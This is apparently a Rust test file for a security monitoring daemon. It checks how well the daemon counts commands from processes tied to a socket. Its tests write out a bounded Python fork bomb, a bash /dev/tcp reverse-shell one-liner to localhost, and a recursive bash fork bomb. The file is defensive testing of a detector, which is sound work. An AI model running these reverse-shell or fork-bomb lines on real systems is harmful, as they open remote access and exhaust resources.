//! A fork bomb on a tether.

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::victim::Victim;
use crate::common::{token, wait_for};
use crate::{alone, found, is_of, on_socket, require, still_finds};

/// Each of three thousand processes is a fork of one on the socket and executes nothing: they are no commands. Then as many
/// that execute: what the incident counts and what is counted as lost are together all of them.
#[test]
fn three_thousand_forks_and_execs() {
    require!("/usr/bin/python3");
    let _alone = alone();
    let daemon = Daemon::start("");
    let before = daemon.memory_kib("VmHWM");
    let (port, mark) = (Listener::tcp().swallow(), token());
    // Every second one waits, so that they pile up to 1,500; each generation forks two, until there are 3,000.
    let bomb = format!(
        "import os,sys,time,multiprocessing as m
n=m.Value('i',3000)
def bomb(d):
    while True:
        with n.get_lock():
            if n.value<=0: break
            n.value-=1; i=n.value
        p=os.fork()
        if p==0:
            if i%2: time.sleep(2); os._exit(0)
            os.execv('/bin/sh',['sh','-c',': {mark}'])
        if d<3 and i%500==0:
            if os.fork()==0: bomb(d+1); os._exit(0)
    try:
        while True: os.wait()
    except ChildProcessError: pass
bomb(0)
"
    );
    let mut command = std::process::Command::new("/usr/bin/python3");
    command.args(["-c", &bomb]);
    let (mut victim, own) = on_socket(port, command);
    found(&daemon, own);
    still_finds(&daemon);
    victim.wait();
    let last =
        daemon.wait_for("the incident ends", |record| is_of(record, own) && record.state() == "INACTIVE");
    let lost = lost(&daemon);
    // 1,500 shells and python itself; what was lost may have been others' too.
    let count = last.count();
    assert!(count + lost >= 1501, "{count} counted, {lost} lost: {}", daemon.status()["losses"]);
    assert!(count <= 1520, "more than there were: {}", last.brief());
    eprintln!("of 1,501 commands {count} counted; lost {lost}");
    let after = daemon.memory_kib("VmHWM");
    assert!(after < before + 32 * 1024, "memory went from {before} to {after} KiB");
    daemon.stop();
}

/// Commands that were not seen, or may not have been.
fn lost(daemon: &Daemon) -> u64 {
    let causes = [
        "vanished",
        "kernel_overflow",
        "sequence_gap",
        "channel_full",
        "reader_full",
        "process_evicted",
        "access_denied",
    ];
    // A bomb is slow work; it is not what a thread that hangs is.
    assert_eq!(daemon.lost("sensor_stalled"), 0, "the sensor was taken for one that hangs");
    causes.iter().map(|name| daemon.lost(name)).sum()
}

/// A shell's own bomb: as the attacker types it.
#[test]
fn a_bomb_that_is_typed() {
    require!("bash");
    let _alone = alone();
    let daemon = Daemon::start("");
    let attacker = Listener::tcp();
    let port = attacker.port();
    let line = format!("exec bash --norc -i >&/dev/tcp/127.0.0.1/{port} 0>&1");
    let mut victim = Victim::start("/bin/bash", &["-c", &line]);
    let mut session = attacker.accept();
    session.shell_pid();
    // Each calls itself twice, eleven generations deep: 2,047 processes, each of which runs a command at the end.
    session.run("ulimit -u 20000; b() { [ $1 -gt 0 ] || { /bin/true; return; }; b $(($1-1)) & b $(($1-1)) & wait; }; b 10");
    session.run("/bin/sleep 0.2");
    daemon
        .wait_for("the command after it", |record| is_of(record, port) && record.ran(&["/bin/sleep", "0.2"]));
    session.exit();
    wait_for("the shell ends", || victim.ended());
    let last =
        daemon.wait_for("the incident ends", |record| is_of(record, port) && record.state() == "INACTIVE");
    // bash, 1,024 times true, id.
    let lost = lost(&daemon);
    let count = last.count();
    assert!(count + lost >= 1026, "{count} counted, {lost} lost: {}", daemon.status()["losses"]);
    // One that is read in the midst of its exec may count twice.
    assert!(
        count <= 1050,
        "more than there were: {} {}",
        last.property("Process_Observations"),
        last.brief()
    );
    eprintln!("of 1,026 commands {count} counted; lost {lost}; {}", last.property("Process_Observations"));
    daemon.stop();
}
